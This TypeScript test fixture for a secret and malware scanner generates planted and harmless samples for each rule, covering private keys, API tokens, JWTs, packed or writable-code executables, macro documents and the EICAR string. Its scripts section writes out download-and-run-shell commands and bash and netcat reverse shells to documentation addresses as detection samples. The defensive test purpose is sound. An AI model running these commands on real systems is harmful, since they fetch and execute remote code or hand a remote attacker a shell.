/** A planted sample and a harmless near miss for every rule. Secrets are put together at run time: no literal of this file is one. */
import { createSign, generateKeyPairSync, randomBytes } from 'node:crypto';
import { generateKey } from 'openpgp';
import {
  elfFlags,
  elfLoad,
  elfProgram,
  elfStack,
  peCode,
  peData,
  peProgram,
  peWritableCode,
} from './programs.fixture.js';

/** What is scanned for one rule. */
export interface Sample {
  readonly rule: string;
  /** The rule finds it in this. */
  readonly planted: Buffer;
  /** The rule finds nothing in this, though it looks alike. */
  readonly harmless: Buffer;
  /** Further rules that find something in the planted sample. */
  readonly also?: readonly string[];
}

const text = (...parts: readonly string[]) => Buffer.from(parts.join(''), 'latin1');
const letters = (count: number) =>
  randomBytes(count * 4)
    .toString('base64')
    .replaceAll(/[^A-Za-z]/g, '')
    .slice(0, count);
const capitals = (count: number) => letters(count).toUpperCase();
const digits = (count: number) => '1234567890123'.slice(0, count);
const dashes = '-'.repeat(5);
const label = (name: string) => `${dashes}BEGIN ${name}${dashes}`;

/** 68 bytes, https://www.eicar.org. */
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS', '-TEST-FILE!$H+H*'];

function keys(): Sample[] {
  const rsa = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' });
  const pkcs8 = rsa.privateKey.export({ type: 'pkcs8', format: 'pem' }).toString();
  const cipher = { cipher: 'aes-256-cbc', passphrase: letters(20) };
  const encrypted = rsa.privateKey.export({ type: 'pkcs8', format: 'pem', ...cipher }).toString();
  const spki = rsa.publicKey.export({ type: 'spki', format: 'pem' }).toString();
  const sec1 = ec.privateKey.export({ type: 'sec1', format: 'pem' }).toString();
  const pkcs1 = rsa.privateKey.export({ type: 'pkcs1', format: 'pem' }).toString();
  const old = rsa.privateKey.export({ type: 'pkcs1', format: 'pem', ...cipher }).toString();
  const mention = (name: string) => text(`if (line === '${label(name)}') read();\n`);
  return [
    { rule: 'private_key_pkcs8', planted: text('x\n', pkcs8), harmless: text(spki) },
    {
      rule: 'private_key_pkcs8',
      planted: text(JSON.stringify({ key: pkcs8 })),
      harmless: mention('PRIVATE KEY'),
    },
    {
      rule: 'private_key_pkcs8',
      planted: Buffer.from(pkcs8.replaceAll('\n', '\r\n'), 'utf16le'),
      harmless: Buffer.from(spki, 'utf16le'),
    },
    {
      rule: 'private_key_pkcs8_encrypted',
      planted: text(encrypted),
      harmless: mention('ENCRYPTED PRIVATE KEY'),
    },
    { rule: 'private_key_rsa', planted: text(pkcs1), harmless: mention('RSA PRIVATE KEY') },
    { rule: 'private_key_rsa', planted: text(old), harmless: text(spki) },
    { rule: 'private_key_ec', planted: text(sec1), harmless: mention('EC PRIVATE KEY') },
    {
      rule: 'private_key_openssh',
      planted: text(label('OPENSSH PRIVATE KEY'), '\n', openssh().toString('base64'), '\n'),
      harmless: text(`${label('OPENSSH PRIVATE KEY')}\n${'A'.repeat(70)}\n`),
    },
  ];
}

/** The beginning of an OpenSSH key file. */
function openssh(): Buffer {
  return Buffer.concat([text('openssh-key-v1\0'), randomBytes(37)]);
}

async function pgp(): Promise<Sample> {
  const userIDs = [{ name: 'Releases', email: 'releases@example.org' }];
  const { privateKey, publicKey } = await generateKey({ userIDs, format: 'armored' });
  return { rule: 'private_key_pgp', planted: text(privateKey), harmless: text(publicKey) };
}

const part = (value: object) => Buffer.from(JSON.stringify(value)).toString('base64url');

function jwt(parts: number): string {
  const signed = `${part({ alg: 'RS256', typ: 'JWT' })}.${part({ sub: 'alice', exp: 1 })}`;
  const { privateKey } = generateKeyPairSync('rsa', { modulusLength: 2048 });
  const signature = createSign('sha256').update(signed).sign(privateKey, 'base64url');
  return parts === 3 ? `${signed}.${signature}` : signed;
}

function tokens(): Sample[] {
  const uuid = '01890000-0000-7000-8000-000000000000';
  const slack = ['/services/T', capitals(9), '/B', capitals(9), '/', letters(24)].join('');
  return [
    {
      rule: 'aws_access_key',
      planted: text('id = AK', 'IA', capitals(16)),
      harmless: text('id = AK', 'IA', capitals(9), 'EXAMPLE AK', 'IA', capitals(17)),
    },
    {
      rule: 'github_token',
      planted: text('token: gh', 'p_', letters(36)),
      harmless: text('token: gh', 'p_', letters(35), ' gh', 'p_', letters(37)),
    },
    {
      rule: 'github_token',
      planted: text('github', '_pat_', letters(22), '_', letters(59)),
      harmless: text('github', '_pat_', letters(22), '-', letters(59)),
    },
    {
      rule: 'gitlab_token',
      planted: text('gl', 'pat-', letters(20)),
      harmless: text('gl', 'pat-', letters(19)),
    },
    {
      rule: 'slack_token',
      planted: text('xo', 'xb-', digits(12), '-', letters(24)),
      harmless: text('xo', 'xb-', letters(12), '-', letters(24)),
    },
    {
      rule: 'slack_token',
      planted: text('https://hooks.slack', '.com', slack),
      harmless: text('https://hooks.example', '.com', slack),
    },
    {
      rule: 'npm_token',
      planted: text('np', 'm_', letters(36)),
      harmless: text('np', 'm_config_registry_of_the_installation_01'),
    },
    {
      rule: 'npm_token',
      planted: text('//registry.example.org/:_auth', 'Token=', uuid),
      harmless: text('//registry.example.org/:_auth', 'Token=${NPM_TOKEN}'),
    },
    {
      rule: 'bearer_token',
      planted: text('Authorization: ', 'Bearer ', letters(43)),
      harmless: text('Authorization: ', 'Bearer $TOKEN, or Bearer ', letters(43)),
    },
    {
      rule: 'demo_token',
      planted: text('curl -H "Authorization: ', 'Bearer demo-', 'alice"'),
      harmless: text('Bearer tokens of the demo-alice kind'),
    },
    { rule: 'json_web_token', planted: text('t=', jwt(3)), harmless: text('t=', jwt(2)) },
  ];
}

function programs(): Sample[] {
  const usual = [
    ['.text', peCode],
    ['.data', peData],
  ] as const;
  const { executable, readable, writable } = elfFlags;
  const code = [elfLoad, readable | executable] as const;
  const data = [elfLoad, readable | writable] as const;
  const upx = text('UP', 'X!');
  return [
    {
      rule: 'packed_executable',
      planted: peProgram({
        sections: [
          ['UPX0', peData],
          ['UPX1', peCode],
        ],
      }),
      harmless: Buffer.concat([peProgram({ sections: usual }), text('UPX0 UPX1 UP', 'X!')]),
      also: ['unsigned_executable'],
    },
    {
      rule: 'packed_executable',
      planted: elfProgram([code], Buffer.concat([upx, Buffer.alloc(5_000), upx, Buffer.alloc(32)])),
      harmless: elfProgram([code], Buffer.concat([upx, Buffer.alloc(5_000)])),
    },
    {
      rule: 'unsigned_executable',
      planted: peProgram({ sections: usual }),
      harmless: peProgram({ sections: usual, signed: true }),
    },
    {
      rule: 'unsigned_executable',
      planted: peProgram({ sections: usual }),
      harmless: Buffer.concat([text('MZ'), randomBytes(2_000)]),
    },
    {
      rule: 'pe_writable_code',
      planted: peProgram({ sections: [['.text', peWritableCode]] }),
      harmless: peProgram({ sections: usual }),
      also: ['unsigned_executable'],
    },
    {
      rule: 'elf_writable_code',
      planted: elfProgram([[elfLoad, readable | writable | executable]]),
      harmless: elfProgram([code, data]),
    },
    {
      rule: 'elf_executable_stack',
      planted: elfProgram([code, [elfStack, readable | writable | executable]]),
      harmless: elfProgram([code, [elfStack, readable | writable]]),
    },
  ];
}

function scripts(): Sample[] {
  const url = 'https://example.org/install';
  return [
    {
      rule: 'download_to_shell',
      planted: text('#!/bin/sh\ncu', `rl -fsSL ${url} | sudo -E ba`, 'sh -\n'),
      harmless: text(`curl -fsSL ${url} | shasum -c\ncurl -o x ${url}; sh x\n`),
    },
    {
      rule: 'download_to_shell',
      planted: text('ba', 'sh -c "$(', `wget -qO- ${url})"`),
      harmless: text(`version="$(wget -qO- ${url})"`),
    },
    {
      rule: 'download_to_shell',
      planted: text('IEX (New-Object Net.WebClient).Down', `loadString('${url}')`),
      harmless: text(`Invoke-WebRequest ${url} -OutFile x.zip`),
    },
    {
      rule: 'reverse_shell',
      planted: text('bash -', 'i >& /dev', '/tcp/192.0.2.1/4444 0>&1'),
      harmless: text('bash -i >& /dev/null; exec 3<>/dev', '/tcp/192.0.2.1/80'),
    },
    {
      rule: 'reverse_shell',
      planted: text('nc 192.0.2.1 4444 -', 'e /bin/sh'),
      harmless: text('nc -z 192.0.2.1 4444 && /bin/sh x'),
    },
  ];
}

function documents(): Sample[] {
  const compound = Buffer.from('d0cf11e0a1b11ae1', 'hex');
  const storage = (name: string) =>
    Buffer.concat([compound, Buffer.alloc(504), Buffer.from(name, 'utf16le')]);
  return [
    {
      rule: 'macro_document',
      planted: zip('word/document.xml', 'word/vbaProject.bin'),
      harmless: zip('word/document.xml', 'word/styles.xml'),
    },
    {
      rule: 'macro_document',
      planted: storage('_VBA_PROJECT'),
      harmless: storage('WordDocument'),
    },
    {
      rule: 'macro_document',
      planted: zip('xl/vbaProject.bin'),
      harmless: text('What is xl/vbaProject.bin in a workbook?'),
    },
  ];
}

const zip = (...names: readonly string[]) => Buffer.concat(names.map(zipEntry));

/** The local header of an empty entry of a ZIP archive. */
function zipEntry(name: string): Buffer {
  const header = Buffer.alloc(30);
  header.write('PK\x03\x04', 0, 'latin1');
  header.writeUInt16LE(name.length, 26);
  return Buffer.concat([header, text(name)]);
}

/** The EICAR test file. */
export function eicarFile(): Buffer {
  return text(...eicar);
}

/** All samples, made anew. */
export async function makeSamples(): Promise<Sample[]> {
  return [
    ...keys(),
    await pgp(),
    ...tokens(),
    ...programs(),
    ...scripts(),
    ...documents(),
    {
      rule: 'eicar_test_file',
      planted: Buffer.concat([eicarFile(), text('\r\n')]),
      harmless: Buffer.concat([text('The file contains '), eicarFile()]),
    },
  ];
}
